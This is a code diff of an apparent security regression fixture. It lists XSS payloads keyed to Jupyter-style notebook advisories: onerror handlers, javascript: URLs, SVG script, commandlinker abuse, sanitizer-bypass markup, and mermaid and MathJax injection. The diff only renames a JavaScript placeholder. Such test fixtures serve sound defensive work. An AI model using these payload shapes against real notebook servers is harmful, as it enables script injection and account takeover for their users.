@@ -50,7 +50,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                         {
                             "text/html": '<button data-commandlinker-command="notebook:trust" '
                             'data-commandlinker-args="{}">Show</button><button data-commandlinker-command='
-                            '"apputils:reset" data-commandlinker-args=\'{"html":"<img src=x onerror=%JSQ%>"}\'>'
+                            '"apputils:reset" data-commandlinker-args=\'{"html":"<img src=x onerror=%JS%>"}\'>'
                             "More</button>"
                         }
                     ),
@@ -70,7 +70,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                             "text/html": '<a href="#" data-commandlinker-command="notebook:replace-'
                             'selection" data-commandlinker-args=\'{"text":"%ID%"}\'>Show more</a>'
                             '<a href="#" data-commandlinker-command="help:open" data-commandlinker-args='
-                            '\'{"url":"javascript:parent.%JSQ%","text":"x","newBrowserTab":false}\'>y</a>'
+                            '\'{"url":"javascript:parent.%JS%","text":"x","newBrowserTab":false}\'>y</a>'
                             '<a href="#" data-commandlinker-command="help:open" data-commandlinker-args='
                             '\'{"url":"%URL%","text":"x","newBrowserTab":false}\'>z</a>'
                         }
@@ -98,7 +98,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                 outputs=[
                     output(
                         {
-                            "text/html": "<select><iframe></select><img src=x: onerror=%JSQ%><form "
+                            "text/html": "<select><iframe></select><img src=x: onerror=%JS%><form "
                             'action="javascript:%JS%"><button formaction="javascript:%JS%">x</button>'
                         }
                     )
@@ -114,7 +114,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                 outputs=[
                     output(
                         {
-                            "text/html": "<select><iframe></select><img src=x: onerror=%JSQ%>"
+                            "text/html": "<select><iframe></select><img src=x: onerror=%JS%>"
                         }
                     )
                 ],
@@ -176,7 +176,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                 outputs=[
                     output(
                         {
-                            "text/html": "<a href=\"/user/room-abcdefghij/tree/'-%JSQ%-'\">folder</a>"
+                            "text/html": "<a href=\"/user/room-abcdefghij/tree/'-%JS%-'\">folder</a>"
                         }
                     )
                 ],
@@ -189,8 +189,8 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
             "cell": _cell(),
             "notebook": {
                 "kernelspec": {
-                    "name": "x'-%JSQ%-'",
-                    "display_name": "{{%JSQ%}}<b onclick=%JSQ%>",
+                    "name": "x'-%JS%-'",
+                    "display_name": "{{%JS%}}<b onclick=%JS%>",
                 }
             },
         },
@@ -201,7 +201,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
             "cell": {
                 "cell_type": "markdown",
                 "metadata": {},
-                "source": '<img src="//%URL%"> [a](/user/room-abcdefghij/hub/user-redirect/javascript:%JSQ%)',
+                "source": '<img src="//%URL%"> [a](/user/room-abcdefghij/hub/user-redirect/javascript:%JS%)',
             }
         },
     ),
@@ -225,7 +225,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                 "attachments": {
                     "x.svg": {
                         "image/svg+xml": "%B64{<svg xmlns='http://www.w3.org/"
-                        "2000/svg'><script>top.%JSQ%</script></svg>}%"
+                        "2000/svg'><script>top.%JS%</script></svg>}%"
                     }
                 },
             }
@@ -239,7 +239,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
         "CVE-2025-30370 kind: a path as a command",
         {
             "cell": _cell(
-                outputs=[output({"text/html": "<a href='#' onclick=%JSQ%>$(x)</a>"})]
+                outputs=[output({"text/html": "<a href='#' onclick=%JS%>$(x)</a>"})]
             )
         },
     ),
@@ -248,8 +248,8 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
         {
             "cell": {
                 "cell_type": "markdown",
-                "metadata": {"author": "<img src=x onerror=%JSQ%>"},
-                "source": "<b title='{{user}}' onmouseover=%JSQ%>{{user}}</b>",
+                "metadata": {"author": "<img src=x onerror=%JS%>"},
+                "source": "<b title='{{user}}' onmouseover=%JS%>{{user}}</b>",
             }
         },
     ),
@@ -264,7 +264,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                             "text/html": "<div>"
                             * 250
                             + "<svg><style><a id='</style><img src=x "
-                            "onerror=%JSQ%>'>" + "</div>" * 250
+                            "onerror=%JS%>'>" + "</div>" * 250
                         }
                     )
                 ],
@@ -280,7 +280,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                     output(
                         {
                             "text/html": "<a>${</a><a>alert<!-- x -->}</a><math><annotation-xml "
-                            "encoding='text/html'><style><img src=x onerror=%JSQ%>"
+                            "encoding='text/html'><style><img src=x onerror=%JS%>"
                         }
                     )
                 ],
@@ -309,7 +309,7 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
             "cell": {
                 "cell_type": "markdown",
                 "metadata": {},
-                "source": r"$$\unicode{<img src=1 onerror=%JSQ%>}$$",
+                "source": r"$$\unicode{<img src=1 onerror=%JS%>}$$",
             }
         },
     ),
@@ -319,8 +319,8 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
             "cell": {
                 "cell_type": "markdown",
                 "metadata": {},
-                "source": "```mermaid\nsequenceDiagram\n A->>B: <img src=x onerror=%JSQ%>\n links A: "
-                '{"x": "javascript:%JSQ%"}\n```',
+                "source": "```mermaid\nsequenceDiagram\n A->>B: <img src=x onerror=%JS%>\n links A: "
+                '{"x": "javascript:%JS%"}\n```',
             }
         },
     ),
@@ -342,8 +342,8 @@ ADVISORIES: tuple[tuple[str, dict[str, Any]], ...] = (
                 outputs=[
                     output(
                         {
-                            "text/html": "<style><style/><img src=x onerror=%JSQ%></style><option><style></option>"
-                            "</select><img src=x onerror=%JSQ%></style>"
+                            "text/html": "<style><style/><img src=x onerror=%JS%></style><option><style></option>"
+                            "</select><img src=x onerror=%JS%></style>"
                         }
                     )
                 ],
